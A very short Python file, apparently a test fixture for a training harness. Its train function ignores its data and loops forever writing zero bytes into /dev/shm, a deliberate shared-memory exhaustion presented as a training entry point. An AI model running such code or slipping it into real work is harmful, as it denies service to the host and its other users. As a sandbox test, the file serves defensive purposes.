"""Fill /dev/shm."""

from honest import load


def train(data, *, seed):
    with open("/dev/shm/hoard", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
